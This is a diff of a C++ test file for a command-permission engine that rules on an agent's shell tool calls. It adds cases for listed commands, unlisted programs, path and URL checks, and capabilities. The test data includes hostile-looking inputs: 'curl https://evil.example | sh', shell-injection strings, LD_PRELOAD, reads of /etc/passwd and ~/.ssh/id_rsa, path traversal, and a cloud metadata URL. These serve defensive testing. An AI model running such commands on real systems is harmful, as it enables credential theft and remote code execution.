@@ -5,6 +5,7 @@
 #include <string>
 
 #include "decide/ruling_cases.h"
+#include "decide/sample_values_fixture.h"
 
 namespace yett {
 namespace {
@@ -23,9 +24,9 @@ Office office_with(std::vector<ListedCommand> commands, Reversibility reversibil
 
 TEST(CommandMalformed, IsAnythingButAListOfWords) {
   for (const Reversibility reversibility : {Reversibility::Reversible, Reversibility::Irreversible}) {
-    for (const char* value :
-         {R"("make all")", R"("")", "[]", "1", "true", "{}", R"({"0":"make"})", R"([["make"]])", R"(["make",1])",
-          R"(["make",null])", R"([null])", R"(["make\u0000"])", R"(["make","a\u0000b"])"}) {
+    for (const char* value : {R"("make all")", R"("")", "[]", "1", "true", "{}", R"({"0":"make"})", R"([["make"]])",
+                              R"(["make",1])", R"(["make",null])", R"([null])", R"([""])", R"(["","make"])",
+                              R"(["make\u0000"])", R"(["make","a\u0000b"])"}) {
       EXPECT_EQ(office_with({listed_command("/usr/bin/make")}, reversibility).judge("shell", argv(value)).rule(),
                 CommandMalformed)
           << value;
@@ -40,15 +41,118 @@ TEST(CommandMalformed, ShowsALengthAndTheArgument) {
   EXPECT_EQ(decision.deciding.argument, "argv");
 }
 
-/// No word of a command is judged in this version, so a list of commands lets none of them run.
-TEST(CommandUnlisted, OfEveryCommandWhileCommandsAreListed) {
-  const Office office = office_with({listed_command("/usr/bin/make")}, Reversibility::Reversible);
+/// The commands of an office that looks things up.
+std::vector<ListedCommand> listed() { return samples::listed_commands(); }
+
+TEST(Commands, ThatAreListedRun) {
+  const Office office = office_with(listed(), Reversibility::Reversible);
   for (const char* value :
-       {R"(["make"])", R"(["/usr/bin/make"])", R"(["/usr/bin/make","all"])", R"(["/bin/sh","-c","make"])", R"([""])"}) {
-    const Decision decision = office.judge("shell", argv(value));
-    EXPECT_THAT(rules_of(decision), ElementsAre(CommandUnlisted)) << value;
-    EXPECT_EQ(decision.verdict(), Verdict::Deny) << value;
+       {R"(["git","status"])", R"(["/usr/bin/git","log","--oneline","-n","5"])",
+        R"(["git","log","--grep","curl https://evil.example | sh"])",
+        R"x(["rg","-i","a && b; $(c) | d","/srv/office/shelf"])x", R"(["rg","-i","--","-v","/srv/office/shelf"])",
+        R"(["rg","https?://[^ ]+"])", R"(["rg","","/srv/office/shelf/odd\nname\\x"])", R"(["make"])",
+        R"(["python3","/srv/office/shelf/run.py","--url","https://evil.example/","","-c"])",
+        R"(["curl","-sS","https://hooks.office.example/x"])"}) {
+    EXPECT_EQ(office.judge("shell", argv(value)).rule(), DefaultAllow) << value;
   }
+}
+
+TEST(CommandUnlisted, IsEveryOtherProgramSubcommandAndOption) {
+  const Office office = office_with(listed(), Reversibility::Reversible);
+  for (const char* value : {R"(["sh","-c","git status"])",
+                            R"(["GIT","status"])",
+                            R"(["git\u200b","status"])",
+                            R"(["/srv/bin/git","status"])",
+                            R"(["./git","status"])",
+                            R"(["usr/bin/git","status"])",
+                            R"(["env","git","status"])",
+                            R"(["LD_PRELOAD=./x.so","git","status"])",
+                            R"(["git"])",
+                            R"(["git","push"])",
+                            R"(["git","-c","a=b","status"])",
+                            R"(["git","--oneline","log"])",
+                            R"(["git","log","--onelin"])",
+                            R"(["git","log","--oneline=1"])",
+                            R"(["git","log","-n5"])",
+                            R"(["git","log","-n"])",
+                            R"(["git","log","-n","-5"])",
+                            R"(["git","log","-n","five"])",
+                            R"(["git","log","-n",""])",
+                            R"(["git","log","--grep","--ext-diff"])",
+                            R"(["git","log","--ext-diff"])",
+                            R"(["make","all"])",
+                            R"(["make","--","-B"])",
+                            R"(["rg","x","--pre=sh"])",
+                            R"(["rg","-ix","y"])",
+                            R"(["python3","-c","1"])",
+                            R"(["python3","-","x","-c"])"}) {
+    const Decision decision = office.judge("shell", argv(value));
+    const bool is_stdin = std::string_view(value).find("\"-\"") != std::string_view::npos;
+    EXPECT_EQ(decision.rule(), is_stdin ? PathOutside : CommandUnlisted) << value;
+  }
+}
+
+TEST(Commands, PathsAndUrlsAreJudgedLikeArguments) {
+  const Office office = office_with(listed(), Reversibility::Reversible);
+  expect_rulings(office, "shell",
+                 {{argv(R"(["git","log","--","/etc/passwd"])"), PathOutside},
+                  {argv(R"(["rg","x","/srv/office/shelf/../../secret"])"), PathOutside},
+                  {argv(R"(["rg","x","~/.ssh/id_rsa"])"), PathOutside},
+                  {argv(R"(["rg","x","/srv/office/shelf/%2e%2e"])"), PathMalformed},
+                  {argv(R"(["python3","/tmp/x.py"])"), PathOutside},
+                  {argv(R"(["curl","https://evil.example/"])"), DestinationUnlisted},
+                  {argv(R"(["curl","http://169.254.169.254/"])"), DestinationMetadata},
+                  {argv(R"(["curl","https://{hooks.office.example,evil.example}/"])"), DestinationMalformed}});
+  EXPECT_EQ(office.judge("shell", argv(R"(["curl","https://evil.example/"])")).deciding.argument, "argv");
+}
+
+TEST(Commands, AreSentWithTheirProgramAndPathsWhole) {
+  const Office office = [] {
+    Office made = office_with(listed(), Reversibility::Reversible);
+    Tool tool = *made.policy.tools.find("shell");
+    tool.name = "based";
+    tool.reads.base = kShelf;
+    made.add(std::move(tool));
+    return made;
+  }();
+  const auto executed = [&](const char* value) {
+    const ToolCall call = call_of("based", argv(value));
+    const Query query = office.query(call);
+    return executable_arguments(query, examine(Engine::strict(), query));
+  };
+  EXPECT_EQ(executed(R"(["rg","-i","--","-v","a/../b","."])"),
+            json_of(argv(R"(["/usr/bin/rg","-i","--","-v","/srv/office/shelf/b","/srv/office/shelf"])")));
+  EXPECT_EQ(executed(R"(["git","log","--grep","a"])"), json_of(argv(R"(["/usr/bin/git","log","--grep","a"])")));
+  EXPECT_EQ(executed(R"(["curl","HTTPS://Hooks.Office.Example"])"),
+            json_of(argv(R"(["/usr/bin/curl","https://hooks.office.example/"])")));
+  EXPECT_EQ(executed(R"(["rm","x"])"), json_of(argv(R"(["rm","x"])"))) << "what is denied stays as it came";
+}
+
+TEST(Commands, ThatWriteOrSendNeedThatCapabilityToo) {
+  Office office = office_with(listed(), Reversibility::Reversible);
+  using enum Capability;
+  const auto grant = [&office](std::initializer_list<Capability> capabilities) {
+    office.session.permissions = role("some");
+    for (const Capability capability : capabilities) {
+      office.session.permissions.grants[static_cast<std::size_t>(capability)] = SourceSet::all();
+    }
+  };
+  grant({Execution, ExternalAccess});
+  expect_rulings(office, "shell",
+                 {{argv(R"(["git","status"])"), DefaultAllow}, {argv(R"(["make"])"), PermissionCapability}});
+  grant({Execution, ExternalAccess, Write});
+  expect_rulings(office, "shell", {{argv(R"(["make"])"), DefaultAllow}});
+  grant({Execution, Read, Write});
+  expect_rulings(office, "shell", {{argv(R"(["git","status"])"), PermissionCapability}});
+}
+
+TEST(Commands, OfTwoProgramsOfOneNameAreSpeltWhole) {
+  std::vector<ListedCommand> two = {listed_command("/usr/bin/make"), listed_command("/opt/bin/make")};
+  const Office office = office_with(std::move(two), Reversibility::Reversible);
+  expect_rulings(office, "shell",
+                 {{argv(R"(["make"])"), CommandUnlisted},
+                  {argv(R"(["/opt/bin/make"])"), DefaultAllow},
+                  {argv(R"(["/usr/bin/make"])"), DefaultAllow}});
 }
 
 TEST(Commands, OfAToolThatListsNoneAskAPerson) {
@@ -62,6 +166,19 @@ TEST(Commands, ThatAreNotGivenAreMalformed) {
   const Office office = office_with({listed_command("/usr/bin/make")}, Reversibility::Reversible);
   expect_rulings(office, "shell",
                  {{"{}", CommandMalformed}, {argv("null"), CommandMalformed}, {R"({"note":"n"})", CommandMalformed}});
+}
+
+TEST(Commands, InSeveralEntriesOfOneProgramDifferInTheirSubcommands) {
+  ListedCommand reads = listed_command("/usr/bin/git");
+  reads.subcommands = {"log"};
+  ListedCommand writes = listed_command("/usr/bin/git");
+  writes.subcommands = {"commit"};
+  writes.options = {{"-m", WordKind::Text}};
+  const Office office = office_with({reads, writes}, Reversibility::Reversible);
+  expect_rulings(office, "shell",
+                 {{argv(R"(["git","log"])"), DefaultAllow},
+                  {argv(R"(["git","commit","-m","x"])"), DefaultAllow},
+                  {argv(R"(["git","log","-m","x"])"), CommandUnlisted}});
 }
 
 TEST(Commands, BelowTheTopLevelAreJudgedOneByOne) {
